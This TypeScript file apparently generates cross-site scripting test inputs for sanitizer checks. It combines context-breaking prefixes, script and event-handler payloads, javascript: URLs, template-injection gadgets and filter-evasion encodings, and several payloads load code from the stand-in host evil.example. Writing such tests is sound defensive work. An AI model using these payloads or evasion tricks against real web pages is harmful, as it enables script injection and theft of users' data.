import * as fc from 'fast-check';

/** Sets a mark in the page, and asks the network for something: either would be seen. */
const RUN = 'globalThis.ran=1';
const ASK = 'https://evil.example/';

/** What text has to end, wherever it was put, before it is markup. */
const ENDS = [
  '',
  '">',
  "'>",
  '>',
  '" ',
  "' ",
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</td></table>',
  '-->',
  ']]>',
  '`',
  '\n\n',
  '](',
  '\u2028',
  '\\',
  '&quot;&gt;',
];

/** What would run or ask, once it is markup. */
const ACTS = [
  `<script>${RUN}</script>`,
  `<script src="${ASK}s.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${ASK}i.png">`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="${ASK}u.svg#a"></use><image href="${ASK}v.png" /></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="${ASK}o"></object><embed src="${ASK}e">`,
  `<link rel=stylesheet href="${ASK}l.css"><style>@import "${ASK}m.css"</style>`,
  `<link rel=prefetch href="${ASK}p"><link rel=icon href="${ASK}f.ico">`,
  `<base href="${ASK}">`,
  `<meta http-equiv=refresh content="0;url=${ASK}r">`,
  `<form action="${ASK}"><input autofocus onfocus=${RUN}></form>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video src="${ASK}v.mp4" onerror=${RUN}></video><audio src="${ASK}a.mp3"></audio>`,
  `<body background="${ASK}b.png" onload=${RUN}>`,
  `<p style="background: url(${ASK}c.png)">x</p>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<input type=image src="${ASK}n.png">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<custom-element onclick=${RUN} onmouseover=${RUN}>x</custom-element>`,
  `onmouseover=${RUN} onfocus=${RUN} autofocus x=`,
  `style=background:url(${ASK}d.png) x=`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `![x](${ASK}k.png)`,
  `[x](javascript:${RUN})`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `@import url(${ASK}j.css);`,
  `command:workbench.action.terminal.sendSequence?${RUN}`,
];

/** How filters are got round. */
const DISGUISES: readonly ((act: string) => string)[] = [
  (act) => act,
  (act) =>
    act.replaceAll(/<(\/?)(\w)/g, (_, slash: string, letter: string) => `<${slash}${letter.toUpperCase()}`),
  (act) => act.replaceAll(/(<\w+) /g, '$1\t\n'),
  (act) => act.replaceAll(/(<\w+) /g, '$1/'),
  (act) => act.replaceAll('javascript:', 'java\tscript:'),
  (act) => act.replaceAll('javascript:', '&#106;avascript&colon;'),
  (act) => act.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (act) => act.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (act) => `<scr<script>ipt>${act}`,
  (act) => `<!--${act}--><![CDATA[${act}]]>`,
  (act) => `${act}<noscript><p title="</noscript>${act}">`,
];

const script = fc
  .tuple(fc.constantFrom(...ENDS), fc.constantFrom(...ACTS), fc.constantFrom(...DISGUISES))
  .map(([end, act, disguise]) => `${end}${disguise(act)}`);

/** `count` texts, no two alike, each of which would run or ask for something if it ever became markup. */
export function scriptTexts(count: number, seed: number): readonly string[] {
  const [texts = []] = fc.sample(fc.uniqueArray(script, { minLength: count, maxLength: count }), {
    numRuns: 1,
    seed,
  });
  return texts;
}
